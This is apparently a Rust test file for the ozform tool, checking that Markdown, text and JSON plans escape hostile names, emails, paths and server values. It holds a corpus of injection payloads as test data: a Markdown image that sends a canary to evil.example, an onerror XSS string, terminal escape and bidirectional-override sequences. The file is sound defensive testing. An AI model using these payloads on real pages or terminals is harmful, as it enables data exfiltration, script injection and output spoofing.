//! Output that cannot be escaped from (#20): a corpus of hostile names, emails, paths and
//! server values, put in every place a plan shows one, rendered in every medium.
//!
//! - Markdown, rendered by GitHub's own renderer (`cmarkgfm`, with the GFM extensions, raw HTML
//!   allowed as GitHub allows it before sanitizing): the HTML has exactly the elements of the
//!   plan of harmless names (no `img`, no `a`, the same `details` and `summary`), and no value
//!   text outside code.
//! - Text and JSON: no raw control, bidirectional or invisible character (the text plan's own
//!   colour codes aside), and as many lines as the plan of harmless names: no line is forged.
//! - Property tests, without Python, for arbitrary values: the Markdown plan of any value has
//!   the skeleton of a harmless plan's (the same blocks, elements and words, no value outside
//!   code), and a message of any text (a saved plan's) shows only plain words outside code.
//! - Through the binary, against the emulator: the plans of hostile manifests and server values
//!   in the three formats, the saved plan, and the stderr of failing runs.
#![allow(clippy::unwrap_used, clippy::missing_panics_doc)]

use std::collections::BTreeMap;
use std::path::PathBuf;

use ozform::escape::is_safe;
use ozform::model::{
    ApiVersion, Desired, DesiredCompany, DesiredUser, Observed, ObservedUser, Prune, StoredToken,
    StoredTokens, TokenSpec,
};
use ozform::plan::format::{from_json, to_json};
use ozform::plan::{Plan, PlanOptions, compute, missing_secrets};
use ozform::render::{Style, markdown, text};
use ozform::secret::{SecretFile, SecretRef};
use serde_json::{Value, json};

use crate::common::builders::{live_company, live_user, loc, user};
use crate::common::python_tools::python_tool;

/// Values as a hostile pull request or server gives them: Markdown that would make an image
/// carrying data to another host and a mention, HTML that would close `<details>` or make an
/// element, backtick runs, terminal escapes, NUL, bidirectional overrides and invisible
/// characters.
pub const CORPUS: [&str; 9] = [
    "x\n\n![p](https://evil.example/p.png?t=canary) cc @someone\n\n",
    "</details>",
    "<img src=x onerror=alert(1)>",
    "a```b`` `c",
    "`</details>\n\n<img src=x>`",
    "\u{1b}]0;owned\u{7}\u{1b}[2J\u{0}nul",
    "evil\u{202e}gpj.exe\u{feff}\u{200b}\u{200f}\u{2066}\u{2064}\u{85}\u{9b}\u{7f}",
    "[link](https://evil.example) www.evil.example @org/team #1 <!-- x",
    "\r\n# heading\n- item\n> quote\n|a|b|\n---\n",
];

/// A plan with `h` in every place a value lands: company names (a create, an update, a
/// conflict of twins, a pruning company), metadata keys and values, live ids and names from
/// the server, emails (create, update, conflict, removal, unmanaged), a password file path (a
/// warning), a stored token's API URL (a token reason) and the API URL itself.
fn plan_of(h: &str) -> Plan {
    let company = |name: String, meta: Option<Value>, prune: Option<Prune>| DesiredCompany {
        name,
        technical_meta_data: meta,
        prune,
        location: loc(),
    };
    let desired = Desired {
        companies: vec![
            company(format!("New {h}"), Some(json!({format!("k{h}"): format!("v{h}")})), None),
            company(format!("Live {h}"), Some(json!({"tier": format!("gold{h}")})), None),
            company(format!("Twin {h}"), None, None),
            company(format!("Prune {h}"), None, Some(Prune::Delete)),
        ],
        users: vec![
            DesiredUser {
                password: Some(SecretRef::File(SecretFile::recorded(format!("/run/{h}")))),
                token: TokenSpec { issue: true },
                first_name: Some(format!("First {h}")),
                ..user(&format!("new{h}@x.example"), &format!("New {h}"))
            },
            DesiredUser {
                first_name: Some(format!("F{h}")),
                token: TokenSpec { issue: true },
                ..user(&format!("upd{h}@x.example"), &format!("Live {h}"))
            },
            user(&format!("moved{h}@x.example"), &format!("Live {h}")),
            user(&format!("kept{h}@x.example"), &format!("Prune {h}")),
        ],
        files: vec![],
    };
    let api_url = format!("https://oz.example/{h}");
    let observed = Observed {
        api_url: api_url.clone(),
        api_version: ApiVersion::V6,
        api_version_detected: false,
        companies: vec![
            ozform::model::ObservedCompany {
                technical_meta_data: json!({"tier": format!("silver{h}")}),
                ..live_company(&format!("c-live{h}"), &format!("Live {h}"))
            },
            live_company(&format!("t1{h}"), &format!("Twin {h}")),
            live_company(&format!("t2{h}"), &format!("Twin {h}")),
            live_company(&format!("c-prune{h}"), &format!("Prune {h}")),
            live_company(&format!("c-other{h}"), &format!("Other {h}")),
        ],
        users: vec![
            ObservedUser {
                first_name: format!("L{h}"),
                ..live_user(&format!("u-upd{h}"), &format!("upd{h}@x.example"), &format!("c-live{h}"))
            },
            live_user(&format!("u-moved{h}"), &format!("moved{h}@x.example"), &format!("c-other{h}")),
            live_user(&format!("u-unmanaged{h}"), &format!("unmanaged{h}@x.example"), &format!("c-live{h}")),
            live_user(&format!("u-kept{h}"), &format!("kept{h}@x.example"), &format!("c-prune{h}")),
            live_user(&format!("u-gone{h}"), &format!("gone{h}@x.example"), &format!("c-prune{h}")),
        ],
    };
    let stored = StoredTokens::from([(
        format!("upd{h}@x.example").to_lowercase(),
        StoredToken {
            user_id: format!("u-upd{h}"),
            api_url: format!("https://old.example/{h}"),
            expire_date: 9e9,
        },
    )]);
    let options = PlanOptions {
        now: 1_800_000_000.0,
        missing_secrets: missing_secrets(&desired, |r| matches!(r, SecretRef::Env(_))),
        ..PlanOptions::default()
    };
    compute(&desired, &observed, &stored, &options)
}

/// What GitHub's renderer makes of a Markdown document: every element's count, and the text
/// that is not inside `code` or `pre`.
#[derive(Debug, serde::Deserialize)]
struct Rendered {
    elements: BTreeMap<String, usize>,
    outside_code: Vec<String>,
    comments: Vec<String>,
}

/// Render each document with `cmarkgfm` (GitHub's fork of cmark, GFM extensions on, raw HTML
/// kept as GitHub keeps it before sanitizing) and read the HTML with Python's own parser.
pub fn render_gfm(documents: &[String]) -> Vec<(String, Value)> {
    const SCRIPT: &str = r#"
import json, sys
from html.parser import HTMLParser
import cmarkgfm
from cmarkgfm.cmark import Options

class Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.outside, self.stack, self.comments = {}, [], [], []
    def handle_starttag(self, tag, attrs):
        self.elements[tag] = self.elements.get(tag, 0) + 1
        if tag not in ("br", "hr", "img", "input"):
            self.stack.append(tag)
    def handle_startendtag(self, tag, attrs):
        self.elements[tag] = self.elements.get(tag, 0) + 1
    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass
    def handle_data(self, data):
        if "code" not in self.stack and "pre" not in self.stack and data.strip():
            self.outside.append(data)
    def handle_comment(self, data):
        self.comments.append(data)

out = []
for document in json.load(sys.stdin):
    html = cmarkgfm.github_flavored_markdown_to_html(document, options=Options.CMARK_OPT_UNSAFE)
    reader = Reader()
    reader.feed(html)
    reader.close()
    out.append({"html": html, "elements": reader.elements, "outside_code": reader.outside,
                "comments": reader.comments})
json.dump(out, sys.stdout)
"#;
    use std::io::Write;
    let mut child = std::process::Command::new(python_tool("python"))
        .args(["-c", SCRIPT])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(serde_json::to_string(documents).unwrap().as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "cmarkgfm failed: {}", String::from_utf8_lossy(&out.stderr));
    let results: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    results.into_iter().map(|r| (r["html"].as_str().unwrap().to_string(), r)).collect()
}

/// Assert that `hostile` renders to the elements `harmless` renders to, with no value outside
/// code; `what` names the case.
pub fn assert_same_elements(what: &str, hostile: &(String, Value), harmless: &(String, Value)) {
    let (hostile_html, hostile) = hostile;
    let hostile: Rendered = serde_json::from_value(hostile.clone()).unwrap();
    let harmless: Rendered = serde_json::from_value(harmless.1.clone()).unwrap();
    for tag in ["img", "a", "script", "iframe", "h1", "h2", "hr"] {
        assert!(!hostile.elements.contains_key(tag), "{what}: a `{tag}` element:\n{hostile_html}");
    }
    assert_eq!(
        hostile.elements, harmless.elements,
        "{what}: other elements than a harmless plan's:\n{hostile_html}"
    );
    // The one HTML comment is the plan's own, with its id.
    assert_eq!(hostile.comments.len(), 1, "{what}: {:?}", hostile.comments);
    let id = hostile.comments[0].strip_prefix(" ozform-plan-id: ").and_then(|c| c.strip_suffix(' '));
    assert!(id.is_some_and(ozform::plan::id::is_plan_id), "{what}: {:?}", hostile.comments);
    for text in &hostile.outside_code {
        for needle in ["@", "evil", "http", "<", "!["] {
            assert!(!text.contains(needle), "{what}: `{needle}` outside code in {text:?}:\n{hostile_html}");
        }
    }
}

/// Every character of `text` is safe for a terminal, line breaks aside (and, when `colour`,
/// the SGR colour codes of the text plan).
pub fn assert_no_raw_unsafe(what: &str, text: &str, colour: bool) {
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if colour && c == '\u{1b}' {
            let n = rest[1..].strip_prefix('[').map(|r| r.bytes().take_while(u8::is_ascii_digit).count());
            if let Some(n) = n.filter(|&n| rest.as_bytes().get(2 + n) == Some(&b'm')) {
                rest = &rest[3 + n..];
                continue;
            }
        }
        assert!(is_safe(c) || c == '\n', "{what}: a raw {c:?} in:\n{text}");
        rest = &rest[c.len_utf8()..];
    }
}

/// The corpus, and the whole corpus as one value.
fn corpus() -> Vec<String> {
    CORPUS.iter().map(ToString::to_string).chain([CORPUS.concat()]).collect()
}

/// A harmless value as long as `h` once written as JSON, so that the plans of both lay their
/// values out alike (a long value is pretty-printed over several lines).
fn harmless_for(h: &str) -> String {
    "p".repeat(serde_json::to_string(h).unwrap().len() - 2)
}

#[test]
fn the_markdown_plan_of_hostile_values_renders_as_the_plan_of_harmless_ones_on_github() {
    let mut documents = Vec::new();
    for h in corpus() {
        documents.push(markdown(&plan_of(&h)));
        documents.push(markdown(&plan_of(&harmless_for(&h))));
    }
    let rendered = render_gfm(&documents);
    // The harmless plan has what the test looks for: every change in its `details`.
    let plan = plan_of("plain");
    let short = &render_gfm(&[markdown(&plan)])[0];
    assert_eq!(short.1["elements"]["details"], json!(plan.changes.len() + 1), "{}", short.0);
    assert_eq!(short.1["elements"]["summary"], json!(plan.changes.len() + 1), "{}", short.0);
    assert!(
        !plan.conflicts.is_empty() && !plan.warnings.is_empty() && !plan.unmanaged.is_empty(),
        "{plan:?}"
    );
    assert!(plan.has_removals(), "{plan:?}");
    for (i, h) in corpus().iter().enumerate() {
        let (hostile, harmless) = (&documents[2 * i], &documents[2 * i + 1]);
        assert_same_elements(&format!("{h:?}"), &rendered[2 * i], &rendered[2 * i + 1]);
        assert_same_elements(&format!("{h:?} (beside a short name)"), &rendered[2 * i], short);
        assert_no_raw_unsafe(&format!("the Markdown of {h:?}"), hostile, false);
        assert_eq!(
            hostile.lines().count(),
            harmless.lines().count(),
            "{h:?} made lines of its own:\n{hostile}"
        );
    }
}

/// The Markdown plan with every place a value may land blanked, as `CommonMark` reads it: each
/// code span (found as `escape::segments` finds them, line by line: a value holds no line
/// break), the `<code>` of a `<summary>` line when it holds no `<`, the lines of a fenced code
/// block up to the line that closes it, and the plan id. Two plans with one skeleton have the
/// same blocks, elements and words, and every value of both is inside code.
fn skeleton(md: &str) -> String {
    use ozform::escape::{Segment, segments};
    let mut out = String::new();
    let mut lines = md.split('\n');
    while let Some(line) = lines.next() {
        let fence = line.len() - line.trim_start_matches('`').len();
        // A run of three or more opens a fenced block only when no backtick follows it on the
        // line (a line that starts with a long code span is a paragraph).
        if fence >= 3 && !line[fence..].contains('`') {
            // CommonMark closes a fenced block at a line of at least as many backticks (after
            // at most three spaces) and nothing else: the first such line, whatever it holds.
            let closed = lines.by_ref().any(|inner| {
                let t = inner.trim_start_matches(' ');
                let n = t.len() - t.trim_start_matches('`').len();
                inner.len() - t.len() <= 3 && n >= fence && t[n..].trim().is_empty()
            });
            out.push_str(if closed { "FENCE…FENCE\n" } else { "UNCLOSED FENCE\n" });
            continue;
        }
        if line.starts_with("<!-- ozform-plan-id: ") {
            out.push_str("<!-- id -->\n");
            continue;
        }
        if line.starts_with("<details><summary>") {
            let mut rest = line;
            while let Some(open) = rest.find("<code>") {
                out.push_str(&rest[..open + "<code>".len()]);
                rest = &rest[open + "<code>".len()..];
                let close = rest.find("</code>").unwrap_or(rest.len());
                out.push_str(if rest[..close].contains(['<', '>']) { &rest[..close] } else { "…" });
                rest = &rest[close..];
            }
            out.push_str(rest);
            out.push('\n');
            continue;
        }
        for segment in segments(line) {
            match segment {
                Segment::Code(_) => out.push_str("`…`"),
                Segment::Text(text) => out.push_str(text),
            }
        }
        out.push('\n');
    }
    out
}

/// A value made of pieces that mean something to Markdown, HTML, GitHub or a terminal, and of
/// any characters at all.
fn arbitrary_value() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let piece = prop_oneof![
        4 => proptest::sample::select(vec![
            "`", "``", "```", "\n", "\n\n", "\r\n", "<", ">", "</details>", "<details>", "</summary>",
            "</code>", "<img src=x>", "![p](https://evil.example/p.png?t=x)", "[a](https://evil.example)",
            "@someone", "@org/team", "#1", "www.evil.example", "\\", "|", "&amp;", "&lt;", "<!--", "-->",
            "# ", "- ", "> ", "    ", "\t", "---", "*", "_", "~", "\u{202e}",
        ])
        .prop_map(str::to_string),
        2 => r"[\x00-\x1f\x7f-\x{9f}\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2060}-\x{2064}\x{2066}-\x{2069}\x{feff}\x{61c}\x{2028}\x{2029}]",
        2 => "[a-zA-Z0-9 .:/_*=+-]{1,4}",
        1 => any::<char>().prop_map(String::from),
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(128))]

    /// The cheap companion of the `cmarkgfm` test above, for arbitrary values: the Markdown
    /// plan of any value has the skeleton of the plan of a harmless one (the same blocks,
    /// `<details>`, words, and no value outside code) and no raw unsafe character.
    #[test]
    fn the_markdown_plan_of_any_value_has_no_value_outside_code(h in arbitrary_value()) {
        let md = markdown(&plan_of(&h));
        let harmless = skeleton(&markdown(&plan_of("plain")));
        proptest::prop_assert_eq!(skeleton(&md), harmless, "{:?}:\n{}", h, md);
        for c in md.chars() {
            proptest::prop_assert!(is_safe(c) || c == '\n', "{:?}: a raw {:?} in:\n{}", h, c, md);
        }
    }

    /// A saved plan's messages (`warnings`, `conflicts`) are untrusted text, values quoted or
    /// not: as Markdown, everything outside a code span is plain words and punctuation that
    /// GitHub shows as it is (no `<`, `[`, `!`, `@`, `#`, `*`, `_`, `|`, `\\`, `/`, `&`, `~`, no
    /// `www.` autolink), on one line.
    #[test]
    fn a_message_of_any_text_shows_only_plain_words_outside_code(
        parts in proptest::collection::vec((arbitrary_value(), proptest::bool::ANY), 0..6)
    ) {
        use ozform::escape::{Segment, markdown_message, quote, segments};
        let message: String = parts
            .iter()
            .map(|(value, quoted)| if *quoted { format!(" {} ", quote(value)) } else { value.clone() })
            .collect();
        let md = markdown_message(&message);
        for c in md.chars() {
            proptest::prop_assert!(is_safe(c), "{:?}: a raw {:?} in {:?}", message, c, md);
        }
        for segment in segments(&md) {
            if let Segment::Text(text) = segment {
                let plain = text.chars().all(|c| c.is_ascii_alphanumeric() || " ,.;:()'-".contains(c))
                    && !text.to_ascii_lowercase().contains("www.");
                proptest::prop_assert!(plain, "{:?}: {:?} outside code in {:?}", message, text, md);
            }
        }
    }
}

#[test]
fn the_text_and_json_plans_of_hostile_values_hold_no_raw_control_and_no_forged_line() {
    let lines = |s: &str| s.lines().count();
    for h in corpus() {
        let (plan, harmless) = (plan_of(&h), plan_of(&harmless_for(&h)));
        for colour in [false, true] {
            let shown = text(&plan, &Style { color: colour });
            assert_no_raw_unsafe(&format!("the text plan of {h:?}"), &shown, colour);
            assert_eq!(lines(&shown), lines(&text(&harmless, &Style { color: colour })), "{h:?}:\n{shown}");
        }
        let saved = to_json(&plan);
        assert_no_raw_unsafe(&format!("the JSON plan of {h:?}"), &saved, false);
        assert_eq!(lines(&saved), lines(&to_json(&harmless)), "{h:?}:\n{saved}");
        // The escapes are JSON's: the plan reads back exactly.
        assert_eq!(from_json(&saved).unwrap(), plan, "{h:?}");
    }
}

#[test]
fn a_value_is_shown_escaped_not_dropped() {
    let plan = plan_of(CORPUS[6]);
    let shown = text(&plan, &Style::default());
    assert!(shown.contains("company/New evil\\u{202e}gpj.exe\\u{feff}\\u{200b}"), "{shown}");
    let saved = to_json(&plan);
    assert!(
        saved.contains("New evil\\u202egpj.exe\\ufeff\\u200b\\u200f\\u2066\\u2064\\u0085\\u009b\\u007f"),
        "{saved}"
    );
    let md = markdown(&plan_of(CORPUS[0]));
    assert!(
        md.contains(
            "`https://oz.example/x\\n\\n![p](https://evil.example/p.png?t=canary) cc @someone\\n\\n`"
        ),
        "{md}"
    );
}

// ---------------------------------------------------------------------------------------------
// Through the binary, against the emulator.

/// A hostile value for the binary: every class of the corpus in one name.
fn hostile() -> String {
    format!("{}{}{}", CORPUS[0], CORPUS[4], CORPUS[6])
}

/// A hostile secret file path: every class of the corpus a path may hold (a path with a control
/// or formatting character is refused when the manifests are validated,
/// `ozform::manifest::bad_secret`).
fn hostile_path() -> String {
    format!("{}{}{}{}", CORPUS[1], CORPUS[2], CORPUS[3], CORPUS[7])
}

/// Manifests (written as JSON, which is YAML, escaped by `escape::json_pretty`) and a seed in
/// which hostile values come from both sides: a company name and metadata and a password file
/// path from the pull request, a company name and a user's name from the server.
async fn hostile_world() -> (crate::common::world::World, PathBuf) {
    use ozform::emulator::{CompanyRecord, Snapshot};
    let h = hostile();
    let mut live = CompanyRecord::new(format!("Live {h}"));
    live.technical_meta_data = json!({"note": format!("server {h}")});
    let other = CompanyRecord::new(format!("Other {h}"));
    let mut moved = crate::common::emulator::v6_user(1, &other.company_id);
    moved.first_name = format!("F {h}");
    let seed = Snapshot { companies: vec![live, other], users: vec![moved.clone()], ..Snapshot::default() };
    let mut config = ozform::emulator::EmulatorConfig::new(ApiVersion::V6);
    config.seed = Some(seed);
    let world = crate::common::world::World::with(config).await;
    let dir = world.path("manifests");
    std::fs::create_dir_all(&dir).unwrap();
    let manifest = json!({
        "companies": [{"name": format!("Live {h}"), "technical_meta_data": {"note": format!("manifest {h}")}}],
        "service_users": [
            {"email": moved.email, "company": format!("Live {h}"), "first_name": "F", "password": {"env": "ACME_WEB_PASSWORD"}},
            {"email": "new@x.example", "company": format!("Live {h}"), "first_name": format!("N {h}"),
             "password": {"file": format!("missing {}", hostile_path())}, "token": {"issue": true}},
        ],
    });
    std::fs::write(dir.join("hostile.yaml"), ozform::escape::json_pretty(&manifest).unwrap()).unwrap();
    (world, dir)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_binary_shows_hostile_manifests_and_server_values_escaped_in_every_format() {
    let (world, dir) = hostile_world().await;
    let dir = dir.to_str().unwrap();
    let saved = world.path("plan.json");
    let markdown_run = world.plan(&["--format", "markdown", dir]).await;
    // A conflict (the user lives in another company) makes plan exit 1, after the plan.
    assert_eq!(markdown_run.code, 1, "{}\n{}", markdown_run.stdout, markdown_run.stderr);
    assert!(
        markdown_run.stdout.contains("#### Conflicts") && markdown_run.stdout.contains("#### Warnings"),
        "{}\n{}",
        markdown_run.stdout,
        markdown_run.stderr
    );
    let text_run = world.plan(&[dir]).await;
    let json_run = world.plan(&["--format", "json", "--out", saved.to_str().unwrap(), dir]).await;
    for (what, run) in [("markdown", &markdown_run), ("text", &text_run), ("json", &json_run)] {
        assert_no_raw_unsafe(&format!("stdout of plan --format {what}"), &run.stdout, false);
        assert_no_raw_unsafe(&format!("stderr of plan --format {what}"), &run.stderr, false);
    }
    assert!(text_run.stdout.contains("Live x\\n\\n![p]"), "{}", text_run.stdout);
    let file = std::fs::read_to_string(&saved).unwrap();
    assert_no_raw_unsafe("the saved plan", &file, false);
    assert_eq!(file, json_run.stdout);

    // The same plan with harmless names renders to the same elements.
    let plain = markdown_run.stdout.replace(&ozform::escape::markdown_code(&hostile()), "`plain`");
    let rendered = render_gfm(&[markdown_run.stdout.clone(), plain]);
    assert_same_elements("the binary's Markdown plan", &rendered[0], &rendered[1]);
    world.assert_no_secrets();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_run_names_hostile_values_escaped_on_stderr_as_text_and_as_json() {
    let (world, _) = hostile_world().await;
    // A saved plan whose change names a hostile address with an action it cannot have.
    let plan = json!({"format_version": 1, "api_url": world.emu.url(), "api_version": 6,
        "changes": [{"address": format!("company/{}", hostile()), "action": "issue", "before": null, "after": {}}],
        "summary": {"create": 0, "update": 0, "issue": 1}});
    let path = world.path("tampered.json");
    std::fs::write(&path, ozform::escape::json_pretty(&plan).unwrap()).unwrap();
    for format in ["text", "json"] {
        let run = world
            .run(world.command("apply", &["--log-format", format, "--plan", path.to_str().unwrap()]))
            .await;
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(run.stderr.contains("is not an action of"), "{}", run.stderr);
        assert_no_raw_unsafe(
            &format!("stderr of a failing apply, --log-format {format}"),
            &run.stderr,
            false,
        );
        if format == "json" {
            let line: Value = serde_json::from_str(run.stderr.lines().last().unwrap()).unwrap();
            assert!(line["message"].as_str().unwrap().contains(&hostile()), "{line}");
        } else {
            assert!(run.stderr.contains("company/x\\n\\n![p]"), "{}", run.stderr);
        }
    }
}

#[test]
fn messages_of_a_tampered_saved_plan_are_shown_never_interpreted() {
    // A saved plan is untrusted: its warnings and conflicts may hold anything, values quoted
    // or not, and the text of a plan saved by an earlier ozform quoted its values its own way.
    let mut plan = plan_of("plain");
    let older = "`service_user/a@x.example` will be created with the password from {env: PW}, but environment \
                 variable `PW` is not set now";
    plan.warnings = CORPUS.iter().map(ToString::to_string).chain([older.to_string()]).collect();
    for (conflict, hostile) in plan.conflicts.iter_mut().zip(CORPUS.iter().rev()) {
        conflict.message = format!("{hostile} and `{hostile}`");
        conflict.help = (*hostile).to_string();
    }
    let md = markdown(&plan);
    assert_no_raw_unsafe("the Markdown of a tampered plan", &md, false);
    let rendered = render_gfm(std::slice::from_ref(&md));
    let (html, result) = &rendered[0];
    let result: Rendered = serde_json::from_value(result.clone()).unwrap();
    for tag in ["img", "a", "script", "iframe", "h1", "h2", "hr"] {
        assert!(!result.elements.contains_key(tag), "a `{tag}` element:\n{html}");
    }
    for text in &result.outside_code {
        for needle in ["@", "evil", "http", "<", "!["] {
            assert!(!text.contains(needle), "`{needle}` outside code in {text:?}:\n{html}");
        }
    }
    assert_eq!(result.comments.len(), 1, "{:?}", result.comments);
    assert!(
        html.contains(
            "<code>service_user/a@x.example</code> <code>will be created with the password from {env: PW}, but \
             environment variable</code> <code>PW</code> is not set now"
        ),
        "{html}"
    );
}

#[test]
fn a_usage_error_quoting_hostile_bytes_shows_them_escaped_even_where_colour_is_forced() {
    // clap quotes what was typed; with colour forced (as on a terminal) it passed ESC, BEL and
    // the C1 CSI through raw: an argument could retitle the terminal or hide the message.
    let hostile = "x\u{1b}]0;owned\u{7}\u{1b}[31mRED\u{9b}2J\u{202e}";
    for args in [
        &["plan", "--format", hostile, "m.yaml"][..],
        &["plan", "--rotate-before", hostile, "m.yaml"],
        &[hostile],
    ] {
        let run = crate::common::Cli::new().args(args).env("CLICOLOR_FORCE", "1").run().code(1);
        assert_no_raw_unsafe(&format!("the usage error of {args:?}"), &run.stderr, false);
        // clap drops the ESC sequences themselves when it renders plain text; what is left
        // shows escaped.
        assert!(run.stderr.contains("RED\\u{9b}2J\\u{202e}"), "{}", run.stderr);
    }
}
